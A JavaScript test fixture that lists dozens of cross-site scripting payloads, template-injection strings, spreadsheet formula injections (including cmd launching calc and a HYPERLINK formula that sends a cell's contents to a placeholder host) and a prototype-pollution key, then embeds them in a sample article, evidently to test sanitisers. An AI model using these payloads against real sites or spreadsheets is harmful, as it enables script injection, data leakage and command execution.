// Strings that run something where a program is careless: each sets window.ran if it does.

const RUN = "window.ran=1";

/** HTML and SVG that runs by itself, in every way that text can reach a page. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT >${RUN}</SCRIPT >`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src/onerror=${RUN}>`,
  `<img src=x:x onerror\n=\n"${RUN}">`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>go</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">go</math>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<div style="animation:x 1s" onanimationstart=${RUN}>`,
  `<form><button formaction="javascript:${RUN}">go</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${RUN}">go</button>`,
  `<a href="javascript:${RUN}">go</a>`,
  `<a href="jAvAsCrIpT&#58;${RUN}">go</a>`,
  `<a href="java\tscript:${RUN}">go</a>`,
  `<base href="javascript:/a/-${RUN}//"><a href="#">go</a>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<template><script>${RUN}</script></template>`,
  `<p is=x-y onclick=${RUN} id=location name=location>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<plaintext><script>${RUN}</script>`,
];

/** What other languages and programs would run or take for their own. */
const OTHERS = [
  `javascript:${RUN}`,
  `JaVaScRiPt://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `[go](javascript:${RUN})`,
  `[go]: javascript:${RUN}`,
  `![x](x"onerror="${RUN})`,
  `<javascript:${RUN}>`,
  "`<script>window.ran=1</script>`",
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `=HYPERLINK("http://a.example/?"&A1,"go")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `x;=1+1`,
  `\u202e</tpircs>1=nar.wodniw<tpircs>`,
  `__proto__`,
];

/** @type {readonly string[]} */
export const HOSTILE = [...MARKUP, ...OTHERS];

/** All of them in sentences that make names, claims and a title of them. */
export const HOSTILE_ARTICLE = [
  // A text that begins with a tag would be read as HTML.
  `Bridge ${MARKUP[0]}`,
  "",
  ...HOSTILE.flatMap((words) => [`“The ${words} bridge is loose,” said Maria ${words} Lopez. Critics denied that ${words} was safe, according to the ${words} Gazette.`, ""]),
  "Ana Diaz left.",
].join("\n");
